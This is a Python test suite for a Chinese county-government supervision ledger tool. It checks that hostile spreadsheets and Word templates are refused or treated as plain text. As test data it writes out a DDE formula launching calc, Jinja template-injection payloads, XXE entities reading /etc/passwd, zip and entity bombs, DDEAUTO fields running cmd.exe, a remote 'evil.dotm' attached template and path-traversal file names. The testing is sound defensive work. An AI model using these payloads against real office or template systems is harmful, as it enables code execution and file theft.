"""不怀好意的内容：格子里的公式、模板标记、路径、控制字符、大得没有道理的数；模板里的花样；压缩炸弹。都按字面对待，或两句话拒绝。"""

from __future__ import annotations

import html
import io
import json
import re
import shutil
import subprocess
import tempfile
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from itertools import cycle, islice
from pathlib import Path

import openpyxl
import pytest
from conftest import AS_OF, duban, fill, require_program, rows_of, tables_of
from docx import Document
from docx.oxml.ns import qn
from duban_workbook import build
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from pyengine.cli import DONE, HAS_ERRORS
from pyengine.docx_file import TemplateProblem
from pyengine.errors import REFUSED, UNREADABLE
from pyengine.layout import layout
from pyengine.letters import file_name
from pyengine.ooxml import CellEdit, Package, Value, patch
from pyengine.render import render
from pyengine.units import split_units

LEDGER = "政府工作报告台账"
WORDS = {
    "公式": "=cmd|' /C calc'!A0", "加号": "+1+1", "负号": "-1+1", "at": "@SUM(1)", "制表公式": "\t=1+1", "链接": '=HYPERLINK("http://x","y")',
    "取值": "{{ 7*7 }}", "循环": "{% for x in y %}", "类": "{{ ''.__class__.__mro__ }}", "段": "{%p if 1 %}", "富文本": "{{r x }}", "注释": "{# x #}",
    "半个": "{{", "XML": "]]><script>&#0;&lt;</w:t></w:r></w:p>", "控制字符": "甲_x0000_乙_x0001_丙_x001B_丁", "非字符": "甲_xFFFE_乙_xD800_丙",
    "转义": "_x005F_x0041_", "方向": "\u202e县教育局\u202c\u200b\ufeff", "表情": "👩‍👩‍👧🏳️‍🌈", "长": "长" * 40_000, "多行": "一行\n" * 5_000, "数": "9" * 5_000,
    "单位": "县教育局和" * 3_000, "空白": "甲" + " " * 30_000 + "乙", "格式": "%s%n{0}{x}", "地址": "'x'!A1",
}  # fmt: skip
"""照 Excel 文件里的写法：_x0001_ 是控制字符。"""

PATHS = (
    "../../外面", "..\\..\\外面", "C:\\外面", "/外面", "CON", "NUL.docx", "县" * 300, "县局. ", '县<局>:"|?*', "县\n局", "县_x0000_局", "县\u202e局",
    "🏫" * 80, "县/局", "县_局", "县:局",
)  # fmt: skip
SETTINGS: Mapping[str, Value] = {
    "县名": "{{ 7*7 }}", "机关代字": "../县\\", "年度": 9e307, "保留备份天数": -5, "临近天数": 10**12, "滞后容差": "文字",
}  # fmt: skip
NUMBERS = (9e307, -9e307, 1e-300, -1, 10**12, 2958465, 0.1 + 0.2 - 0.3)
W_T = qn("w:t")


def tree(folder: Path) -> set[str]:
    """文件夹里的全部文件，台账旁的历史和备份除外。"""
    return {
        str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file() and ".duban" not in path.parts
    }


def planted(ledger: Path, rows: Mapping[tuple[str, int], Mapping[str, Value]]) -> None:
    """填若干行：（表，行）到各栏；_xHHHH_ 不转义，照 Excel 存的样子。"""
    package, tables = Package.open(ledger), tables_of(ledger)
    edits: dict[str, list[CellEdit]] = {}
    for (sheet, row), cells in rows.items():
        columns = tables[sheet].columns
        edits.setdefault(sheet, []).extend(CellEdit(row, columns[name], value) for name, value in cells.items())
    patch(package, edits, layout().styles)
    for sheet in edits:
        part = package.sheets()[sheet]
        package.replace(part, package.read(part).replace(b"_x005F_", b"_"))
    package.save(ledger)


def shown(word: str) -> str:
    """印在公文里的样子：没有控制字符和 XML 不容的字，换行、制表另算，太长的看开头。"""
    plain = re.sub("_x(0000|0001|001B|FFFE|D800)_", "", word).replace("_x005F_", "_")
    return re.sub(r"[\n\t]", "", plain)[:300].strip()


@dataclass(frozen=True)
class Run:
    """一本写满了花样的台账，跑过各条命令以后。"""

    ledger: Path
    original: Path
    codes: tuple[int, ...]
    outside: set[str]
    temporary: set[str]
    same: bool
    papers: tuple[str, ...]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Run:
    top = tmp_path_factory.mktemp("顶")
    ledger, original, spare = top / "办公室" / "督办台账.xlsx", top / "原样.xlsx", top / "临时"
    ledger.parent.mkdir()
    spare.mkdir()
    build(ledger, sample=True)
    _plant(ledger)
    shutil.copy(ledger, original)
    with pytest.MonkeyPatch.context() as changed:
        changed.setattr(tempfile, "tempdir", str(spare))
        out = ledger.with_suffix(".json")
        codes = [duban("check", ledger, "--as-of", AS_OF)]
        codes += [duban("refresh", ledger, "--as-of", AS_OF, "--json", out)]
        once = ledger.read_bytes()
        codes += [duban("refresh", ledger, "--as-of", AS_OF)]
        same = ledger.read_bytes() == once
        codes += [duban(*words, ledger, "--as-of", AS_OF) for words in (("letters",), ("nightly", "run"), ("refresh",))]
    papers = tuple(_words_of(path) for path in sorted((ledger.parent / "公文").iterdir()))
    outside = tree(top) - {name for name in tree(top) if name.startswith("办公室/")}
    return Run(ledger, original, tuple(codes), outside, tree(spare), same, papers)


def _plant(ledger: Path) -> None:
    """该提示的各项，工作任务换成各种花样，牵头单位换成怪名；别的表各栏写上花样和大得没有道理的数。"""
    out = ledger.with_suffix(".json")
    duban("check", ledger, "--as-of", AS_OF, "--json", out)
    prompts = json.loads(out.read_text(encoding="utf-8"))["prompts"]
    numbers = {number for prompt in prompts for number in prompt["tasks"]}
    rows: dict[tuple[str, int], dict[str, Value]] = {}

    def spread(sheet: str, heads: Sequence[str], values: Iterable[Value], where: Iterable[int] | None = None) -> None:
        found = where or [int(str(row["行"])) for row in rows_of(ledger, sheet)]
        for row, value in zip(found, values, strict=False):
            rows.setdefault((sheet, row), {}).update(dict.fromkeys(heads, value))

    items = [int(str(row["行"])) for row in rows_of(ledger, LEDGER) if row["编号"] in numbers]
    assert 2 * len(items) >= len(WORDS)
    spread(LEDGER, ("工作任务", "最新进展", "存在问题", "备注", "事项来源"), WORDS.values(), items)
    spread(LEDGER, ("年度目标",), [*WORDS.values()][::-1], items)
    spread(LEDGER, ("牵头单位",), cycle(PATHS), items)
    spread("单位", ("单位名称",), PATHS, range(6, 6 + len(PATHS)))
    for sheet, heads in (
        ("上级交办台账", ("责任单位", "立项日期", "启动时限", "完成时限", "完成进度", "星级", "方案审查日期")), ("调整申请", ("原值", "新值", "理由")),
        ("进展反馈", ("进展情况", "退回原因", "提示文号", "填报单位", "完成进度")), ("督查记录", ("事由", "文号", "经办人", "备注")),
        ("会商调度", ("主题", "议定事项", "责任单位", "完成时限")), ("时间节点", ("节点内容", "权重")), ("单位", ("简称", "主要负责人", "职务", "电话")),
    ):  # fmt: skip
        spread(sheet, heads, WORDS.values())
    numbered = (
        ("时间节点", "权重"),
        ("指标进度", "计划累计"),
        ("指标进度", "实际累计"),
        ("进展反馈", "完成进度"),
        ("年度考评", "加减分"),
    )
    for shift, (sheet, head) in enumerate(numbered):
        spread(sheet, (head,), islice(cycle(NUMBERS), shift, 60))
    for row in rows_of(ledger, "设置"):
        if row["项目"] in SETTINGS:
            rows["设置", int(str(row["行"]))] = {"取值": SETTINGS[str(row["项目"])]}
    planted(ledger, rows)


def _words_of(paper: Path) -> str:
    """公文里印的字（断行、断字段的地方不留空）。"""
    return "".join(node.text or "" for node in Document(str(paper)).element.iter(W_T))


def test_every_command_goes_through_and_the_second_refresh_changes_nothing(hostile: Run) -> None:
    assert hostile.codes == (HAS_ERRORS, HAS_ERRORS, HAS_ERRORS, HAS_ERRORS, DONE, HAS_ERRORS)
    assert hostile.same


def test_nothing_is_written_elsewhere(hostile: Run) -> None:
    assert hostile.outside == {"原样.xlsx"}
    assert hostile.temporary == set()
    made = tree(hostile.ledger.parent) - {"督办台账.xlsx", "督办台账.json"}
    assert {name.split("/")[0] for name in made} == {"公文", "每日摘要"}


def test_the_result_is_plain_json(hostile: Run) -> None:
    result = json.loads(
        hostile.ledger.with_suffix(".json").read_text(encoding="utf-8"), parse_constant=lambda word: pytest.fail(word)
    )
    assert len(result["findings"]) > 100


def cells(ledger: Path) -> dict[tuple[str, str], tuple[str, str]]:
    """各表各格：属性和内容的原文。"""
    package = Package.open(ledger)
    cell = re.compile(r'<c r="([A-Z]+\d+)"([^>]*?)(?:/>|>(.*?)</c>)', re.DOTALL)
    return {
        (sheet, found[1]): (found[2], found[3] or "")
        for sheet, part in package.sheets().items()
        for found in cell.finditer(package.text(part).decode())
    }


def test_the_engine_writes_words_as_words_and_no_more_than_a_cell_holds(hostile: Run) -> None:
    before, after = cells(hostile.original), cells(hostile.ledger)
    written = {place: content for place, content in after.items() if before.get(place, ("", ""))[1] != content[1]}
    assert len(written) > 500
    for place, (attributes, content) in written.items():
        assert "<f" not in content, place
        assert ('t="inlineStr"' in attributes) is content.startswith("<is>"), place
        text = html.unescape(re.sub("<[^>]*>", "", content))
        assert len(text.encode("utf-16-le")) <= 2 * 32_767, place


def test_no_staff_cell_changes(hostile: Run) -> None:
    before, after = openpyxl.load_workbook(hostile.original), openpyxl.load_workbook(hostile.ledger)
    for sheet, table in tables_of(hostile.original).items():
        if table.table.key in ("reminders", "cards", "findings"):
            continue
        staff = [table.columns[column.name] for column in table.table.staff if column.name in table.columns]
        for row in range(table.header_row + 1, before[sheet].max_row + 1):
            for column in staff:
                old, new = before[sheet].cell(row, column), after[sheet].cell(row, column)
                if sheet != "督查记录" or old.value is not None:
                    assert (new.value, new.data_type) == (old.value, old.data_type), (sheet, new.coordinate)


PRINTED = tuple(name for name in WORDS if name not in ("空白", "方向"))


@pytest.mark.parametrize("name", PRINTED)
def test_letters_print_what_the_cell_says(hostile: Run, name: str) -> None:
    assert any(shown(WORDS[name]) in paper for paper in hostile.papers)


def test_letters_have_names_that_every_system_takes(hostile: Run) -> None:
    names = [path.name for path in (hostile.ledger.parent / "公文").iterdir()]
    assert len(names) == len(hostile.papers) > len(PATHS)
    for name in names:
        assert len(name.encode()) <= 255
        assert not re.search('[<>:"/\\\\|?*\x00-\x1f\u200b\u202a-\u202e\ufeff]', name)
        assert name.split(".")[0].rstrip().upper() not in ("CON", "NUL")
        assert not name.removesuffix(".docx").endswith((" ", "."))
    prompted = [name for name in names if name.startswith(("工作提示-县_局-", "工作提示-县_局（"))]
    assert len(prompted) == 3  # 县/局、县_局、县:局 各一份


def test_names_are_told_apart_although_they_are_cleaned_alike() -> None:
    taken: set[str] = set()
    names = [file_name(("工作提示", unit, "20260922"), taken) for unit in ("县/局", "县:局", "县?局", "\u202e县_局")]
    assert names == ["工作提示-县_局-20260922.docx", *(f"工作提示-县_局-20260922（{n}）.docx" for n in (2, 3, 4))]


def test_libreoffice_sees_words_and_no_formula(hostile: Run, tmp_path: Path) -> None:
    soffice, out = require_program("soffice"), tmp_path / "出"
    letter = next(path for path in (hostile.ledger.parent / "公文").iterdir() if WORDS["取值"] in _words_of(path))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    for form, path in (("fods", hostile.ledger), ("txt:Text (encoded):UTF8", letter)):
        command = [soffice, profile, "--headless", "--convert-to", form, "--outdir", str(out), str(path)]
        subprocess.run(command, check=True, capture_output=True, timeout=300)
    assert WORDS["取值"] in (out / f"{letter.stem}.txt").read_text(encoding="utf-8")
    book = etree.parse(str(out / f"{hostile.ledger.stem}.fods"), etree.XMLParser(huge_tree=True))
    found = [("".join(cell.itertext()).strip(), cell.attrib) for cell in book.iter("{*}table-cell") if len(cell)]
    texts = {text for text, _ in found}
    assert {WORDS[name] for name in ("公式", "加号", "负号", "at", "取值", "链接")} <= texts
    assert [text for text, attributes in found if any(name.endswith("}formula") for name in attributes)] == []


@pytest.mark.parametrize("name", ["CON", "县/局", "县_x0000_局", "县\u202e局"])
def test_a_unit_of_an_odd_name_keeps_its_name_inside_the_letter(name: str, hostile: Run) -> None:
    assert any(shown(name) in paper for paper in hostile.papers)


def test_a_long_cell_of_units_is_read_without_end_or_not_at_all() -> None:
    assert split_units("县教育局和县财政局") == ("县教育局", "县财政局")
    assert split_units("县教育局、" * 100 + "县财政局") == ("县教育局", "县财政局")
    pasted = "县教育局和" * 3_000
    assert split_units(pasted) == (pasted,)


# --- 改乱了系统的列 -------------------------------------------------------------------------------------------------------


def test_a_card_number_typed_over_is_restored_and_the_card_logged_once(refreshed: Path) -> None:
    card = next(row for row in rows_of(refreshed, "亮牌建议") if row["状态"] == "待确认")
    fill(refreshed, "亮牌建议", card["行"], {"建议编号": "999年内", "确认": "是", "确认人": "周明远"})  # type: ignore[arg-type]
    assert duban("refresh", refreshed, "--as-of", AS_OF) == HAS_ERRORS
    once = refreshed.read_bytes()
    assert duban("refresh", refreshed, "--as-of", AS_OF) == HAS_ERRORS
    assert refreshed.read_bytes() == once
    assert card["建议编号"] in [row["建议编号"] for row in rows_of(refreshed, "亮牌建议")]
    logged = [row["备注"] for row in rows_of(refreshed, "督查记录") if row["事件"] == "亮牌"]
    assert logged.count(card["建议编号"]) == 1


def test_a_card_of_a_unit_no_longer_listed_is_logged_without_a_new_finding(refreshed: Path) -> None:
    card = next(row for row in rows_of(refreshed, "亮牌建议") if row["状态"] == "待确认")
    fill(refreshed, "亮牌建议", card["行"], {"确认": "是", "确认人": "周明远"})  # type: ignore[arg-type]
    unit = next(row for row in rows_of(refreshed, "单位") if row["单位名称"] == card["单位"])
    fill(refreshed, "单位", unit["行"], {"单位名称": "县新局", "简称": None})  # type: ignore[arg-type]
    assert duban("refresh", refreshed, "--as-of", AS_OF) == HAS_ERRORS
    once = refreshed.read_bytes()
    assert duban("refresh", refreshed, "--as-of", AS_OF) == HAS_ERRORS
    assert refreshed.read_bytes() == once


# --- 任意的文字 ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """没有刷新过的示例台账，只供拷贝。"""
    return build(tmp_path_factory.mktemp("原样") / "督办台账.xlsx", sample=True)


ANY = st.one_of(
    st.text(st.characters(exclude_categories=("Cs",)), max_size=60), st.sampled_from([*WORDS.values(), *PATHS])
)
STAFF = (
    "编号", "事项来源", "工作任务", "年度目标", "工作类别", "星级", "牵头领导", "牵头单位", "责任单位", "立项日期", "启动时限", "实际启动日期", "完成时限", "办理状态",
    "完成进度", "最新进展", "存在问题", "下步措施", "方案审查日期", "方案备案日期", "办结日期", "销号日期", "备注",
)  # fmt: skip
UNIT = ("单位名称", "简称", "类别", "主要负责人", "职务", "分管县领导", "联络员", "电话", "邮箱")


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.dictionaries(st.sampled_from(STAFF), ANY, min_size=1), st.dictionaries(st.sampled_from(UNIT), ANY, min_size=1),
    st.dictionaries(st.integers(4, 40), ANY, max_size=4), st.integers(4, 60),
)  # fmt: skip
def test_any_words_in_any_cell_are_judged_or_pointed_out(
    pristine: Path, tmp_path_factory: pytest.TempPathFactory,
    task: dict[str, str], unit: dict[str, str], options: dict[int, str], row: int,
) -> None:  # fmt: skip
    ledger = Path(shutil.copy(pristine, tmp_path_factory.mktemp("任意")))
    fill(ledger, LEDGER, row, task)
    fill(ledger, "单位", 4 + row % 40, unit)
    for at, word in options.items():
        fill(ledger, "设置", at, {"取值": word})
    before = Package.open(ledger)
    assert duban("refresh", ledger, "--as-of", AS_OF) in (DONE, HAS_ERRORS)
    after = Package.open(ledger)
    changed = {name for name in before.names if after.raw(name) != before.raw(name)}
    staff = {before.sheets()[name] for name in ("单位", "领导", "工作日历", "设置")}
    assert after.names == before.names
    assert changed <= {*before.sheets().values(), "xl/styles.xml"} - staff


# --- 模板 -------------------------------------------------------------------------------------------------------------


def template(*texts: str) -> bytes:
    page, out = Document(), io.BytesIO()
    for text in texts:
        page.add_paragraph(text)
    page.save(out)
    return out.getvalue()


def repacked(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            new.writestr(entry, change(old.read(entry)) if entry == name else old.read(entry))
    return out.getvalue()


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    uri = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationship Id="q9" Type="{uri}" Target="{target}"{mode}/>'.encode()


def linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """带一个关系的模板。"""
    added = relation(kind, target, mode) + b"</Relationships>"
    name = "word/_rels/document.xml.rels"
    return repacked(template("{{ 单位 }}"), name, lambda xml: xml.replace(b"</Relationships>", added))


def worded(change: Callable[[bytes], bytes]) -> bytes:
    return repacked(template("{{ 单位 }}"), "word/document.xml", change)


def field(code: str) -> bytes:
    """带一个域的模板；域代码拆在两个字符段里。"""
    half = len(code) // 2
    runs = "".join(
        f'<w:r>{part}</w:r>' for part in (
            '<w:fldChar w:fldCharType="begin"/>', f"<w:instrText>{code[:half]}</w:instrText>",
            f"<w:instrText>{code[half:]}</w:instrText>", '<w:fldChar w:fldCharType="end"/>',
        )
    )  # fmt: skip
    return worded(lambda xml: xml.replace(b"<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr".encode(), 1))


DOCTYPE = b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ONLY, SHUT, TOO_MUCH = "只许取值、if 判断、for 循环和过滤器", "越出了模板许可的范围", "循环太多，或印出的内容太长"
PAIRS, NOT_DOCX = "标记写错了", "不是能用的 docx 文档"
NESTED = "{% for a in 长 %}{% for b in 长 %}{{ a }}{% endfor %}{% endfor %}"
TAGS = {
    "{{ ''.__class__.__mro__ }}": SHUT, "{{ 单位.__init__.__globals__ }}": SHUT, "{% include '/etc/passwd' %}": ONLY,
    "{% import 'os' as os %}": ONLY, "{% import os %}": PAIRS, "{% extends 'x' %}": ONLY, "{{ range(10**9) }}": ONLY,
    "{% for i in range(99999999) %}甲{% endfor %}": ONLY, NESTED: TOO_MUCH, "{{ 9**9**9 }}": ONLY, "{{ '长' * 999999999 }}": "只能用在数上",
    "{{ '%999999999d' % 1 }}": "只能用在数上", "{{ 单位|center(999999999) }}": PAIRS, "{{ 单位|safe }}": PAIRS, "{{ lipsum() }}": ONLY,
    "{% set a = 单位 %}": ONLY, "{% macro f() %}{{ f() }}{% endmacro %}": ONLY, "{{ 单位.format(1) }}": ONLY, "{{ 列.append(1) }}": ONLY,
    "{{ 列 }}": "印的不是一个值", "{{ 单位|default(列) }}": "括号里只能写数", "{{r 单位 }}": PAIRS, "{{ " + "(" * 180 + ")" * 180 + " }}": PAIRS,
    "{{ 单位" + "|顿号" * 90 + " }}": TOO_MUCH, "{{ 1" + "0" * 380 + " / 0 }}": "除数是 0", "{{ 单位": PAIRS, "{% if 单位 %}" * 3_000: "标记多得不正常",
    "{{ " * 3_000: PAIRS, "{{ 单位 }}" * 3_000: "标记多得不正常",
}  # fmt: skip


@pytest.mark.parametrize(("tag", "why"), TAGS.items(), ids=[tag[:30] for tag in TAGS])
def test_tags_take_values_and_nothing_else(tag: str, why: str) -> None:
    with pytest.raises(TemplateProblem) as caught:
        render(template("前一段", tag), {"单位": "县教育局", "列": [1, 2], "长": "长" * 9_999})
    assert why in caught.value.message
    assert caught.value.message.startswith("模板")
    assert "\n" not in str(caught.value)


ALLOWED = {
    "{{ 列|first + 1 }}": "2", "{{ 单位[:2] }}": "县教", "{% for 项 in 列 %}{{ loop.index }}{% if not loop.last %}、{% endif %}{% endfor %}": "1、2",
    "{{ 列|map('string')|list|length }}": None, "{{ 列|length }}": "2", "{{ 列|join('；') }}": "1；2", "{% if 单位 in ['县教育局'] %}有{% endif %}": "有",
    "{{ '有' if 列 else '无' }}": "有", "{{ 单位|default('无') }}": "县教育局", "{# {{ 说明 #}好": "好", "{{ 空|留空(99999) }}": "　" * 600,
}  # fmt: skip


@pytest.mark.parametrize(("tag", "said"), [(tag, said) for tag, said in ALLOWED.items() if said is not None])
def test_what_a_template_needs_still_works(tag: str, said: str) -> None:
    made = Document(io.BytesIO(render(template(tag), {"单位": "县教育局", "列": [1, 2], "空": ""})))
    assert [paragraph.text for paragraph in made.paragraphs] == [said]


TEMPLATES = {
    "标记": (template("{% include '/etc/passwd' %}"), "的标记“{% include '/etc/passwd' %}”不能用"),
    "不是文档": (b"PK\x03\x04" + b"x" * 99, NOT_DOCX),
    "旧文档": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), NOT_DOCX),
    "宏文档": (repacked(template("甲"), "[Content_Types].xml", lambda xml: xml.replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")), NOT_DOCX),
    "损坏": (template("甲")[:-900] + bytes(900), NOT_DOCX),
    "实体": (worded(lambda xml: xml.replace(b"?>", b"?>" + DOCTYPE, 1)), "DOCTYPE"),
    "样式里的实体": (repacked(template("甲"), "word/styles.xml", lambda xml: xml.replace(b"?>", b"?>" + DOCTYPE, 1)), "DOCTYPE"),
    "另一种编码的实体": (worded(lambda xml: xml.replace(b"?>", b"?>" + DOCTYPE, 1).decode().replace("UTF-8", "UTF-16").encode("utf-16")), "DOCTYPE"),
    "炸弹": (repacked(template("甲"), "docProps/core.xml", lambda xml: xml + b" " * (80 << 20)), "大得不正常"),
    "大正文": (worded(lambda xml: xml + b" " * (3 << 20)), "大得不正常"),
    "外面的图": (linked("image", "http://x/y.png"), "连着外面的文件“http://x/y.png”"),
    "外面的图没有写明": (linked("image", "file:///etc/passwd", ""), "连着外面的文件"),
    "外面的对象": (linked("oleObject", "file:///C:/x.xlsx"), "连着外面的文件"),
    "夹带的网页": (linked("aFChunk", "x.html", ""), "连着外面的文件"),
    "读文件的域": (field(' INCLUDETEXT "/etc/passwd" '), "INCLUDETEXT"),
    "动程序的域": (field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe calc "), "DDEAUTO"),
    "域里的标记": (field(" HYPERLINK {{ 单位 }} "), "域代码"),
}  # fmt: skip


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_template_can_do_nothing_but_fill_in(sample: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    content, why = TEMPLATES[name]
    own = sample.parent / "公文模板"
    own.mkdir()
    (own / "工作提示.docx").write_bytes(content)
    before = sample.read_bytes()
    assert duban("letters", sample, "--as-of", AS_OF) == REFUSED
    said = capsys.readouterr().err.splitlines()
    assert len(said) == 2
    assert said[0].startswith("模板“工作提示.docx”")
    assert why in said[0]
    assert sample.read_bytes() == before
    assert tree(sample.parent) == {sample.name, "公文模板/工作提示.docx"}


def test_a_template_that_hangs_on_another_one_is_taken_off_it() -> None:
    attached = (
        b'<w:attachedTemplate r:id="q9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    )
    content = io.BytesIO(
        repacked(
            template("{{ 单位 }}"),
            "word/settings.xml",
            lambda xml: xml.replace(b"</w:settings>", attached + b"</w:settings>"),
        )
    )
    with zipfile.ZipFile(content, "a") as package:
        spaces = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        added = spaces + relation("attachedTemplate", "http://x/evil.dotm") + b"</Relationships>"
        package.writestr("word/_rels/settings.xml.rels", added)
        assert attached in package.read("word/settings.xml")
    made = render(content.getvalue(), {"单位": "县教育局"})
    assert [paragraph.text for paragraph in Document(io.BytesIO(made)).paragraphs] == ["县教育局"]
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        parts = b"".join(package.read(name) for name in package.namelist())
    assert b"evil.dotm" not in parts
    assert b"attachedTemplate" not in parts


def test_a_link_to_click_on_stays() -> None:
    made = render(linked("hyperlink", "http://example.gov.cn/"), {"单位": "县教育局"})
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        assert b"http://example.gov.cn/" in package.read("word/_rels/document.xml.rels")


# --- 台账文件 ---------------------------------------------------------------------------------------------------------


def first_sheet(ledger: Path) -> str:
    return next(iter(Package.open(ledger).sheets().values()))


def sheet_changed(old: bytes, new: bytes) -> Callable[[Path], bytes]:
    return lambda ledger: repacked(
        ledger.read_bytes(), Package.open(ledger).sheets()[LEDGER], lambda xml: xml.replace(old, new, 1)
    )


def bomb(ledger: Path) -> bytes:
    """第一张表解压后是一个大得没有道理的部件。"""
    return repacked(ledger.read_bytes(), first_sheet(ledger), lambda xml: xml + b" " * (300 << 20))


def entity(ledger: Path) -> bytes:
    doctype = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return repacked(ledger.read_bytes(), first_sheet(ledger), lambda xml: xml.replace(b"?>", b"?>" + doctype, 1))


def lying(ledger: Path) -> bytes:
    """第一张表的大小写得不对。"""
    content = bytearray(ledger.read_bytes())
    entry = content.rindex(first_sheet(ledger).encode()) - 46
    assert content[entry : entry + 4] == b"PK\x01\x02"
    content[entry + 24 : entry + 28] = (17).to_bytes(4, "little")
    return bytes(content)


FILES = {
    "炸弹": bomb, "实体": entity, "大小不对": lying,
    "列太远": sheet_changed(b'<c r="C4"', b'<c r="' + b"A" * 100_000 + b'4"'),
    "列太远，写法少见": sheet_changed(b'<c r="C4"', b"<c s='0' r = 'zzzzzz4'"),
    "行太远": sheet_changed(b'<c r="C4"', b'<c r="C99999999"'),
    "行号太大": sheet_changed(b'<row r="4"', b'<row r="4294967295"'),
    "远处的格": sheet_changed(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    "套得太深": sheet_changed(b"</sheetData>", b"</sheetData>" + b"<a>" * 200_000 + b"</a>" * 200_000),
    "没有这段文字": sheet_changed(b't="s"><v>', b't="s"><v>999999999'),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_in_two_lines(sample: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    content = FILES[name](sample)
    for words in (("check",), ("refresh",), ("letters",), ("nightly", "run")):
        sample.write_bytes(content)
        assert duban(*words, sample, "--as-of", AS_OF) == UNREADABLE, words
        assert len(capsys.readouterr().err.splitlines()) == 2
        assert sample.read_bytes() == content
        assert tree(sample.parent) == {sample.name}


@pytest.mark.parametrize("where", ["督办台账.xlsx", "督办台账.xlsx/公文", "甲\0乙"])
def test_letters_go_into_a_folder_or_nowhere(sample: Path, where: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = sample.read_bytes()
    assert duban("letters", sample, "--as-of", AS_OF, "--out", sample.parent / where) in (2, REFUSED)
    assert len(capsys.readouterr().err.splitlines()) == 2
    assert sample.read_bytes() == before
    assert tree(sample.parent) == {sample.name}


def test_an_old_ledger_full_of_tricks_is_adopted_word_for_word(tmp_path: Path) -> None:
    old, new = tmp_path / "原台账.xlsx", tmp_path / "新台账.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "a'b {{ 7 }}"
    sheet.append(("序号", "工作任务", "牵头单位", "完成时限", "备注"))
    for number, word in enumerate(word for word in WORDS.values() if len(word) < 30_000):
        sheet.append((number + 1, None, "../../外面", word, None))
        for column in (2, 5):
            cell = sheet.cell(number + 2, column)
            cell.value, cell.data_type = word, "s"
    book.save(old)
    before = old.read_bytes()
    assert duban("adopt", old, new) in (DONE, HAS_ERRORS)
    assert old.read_bytes() == before
    assert tree(tmp_path) == {"原台账.xlsx", "新台账.xlsx"}
    made = openpyxl.load_workbook(new)
    values = [cell for name in made.sheetnames for row in made[name].iter_rows() for cell in row]
    assert {WORDS["公式"], WORDS["取值"], WORDS["链接"]} <= {cell.value for cell in values if cell.data_type == "s"}
    assert not [cell for cell in values if cell.data_type == "f" and "calc" in str(cell.value)]
    assert duban("refresh", new, "--as-of", AS_OF) in (DONE, HAS_ERRORS)
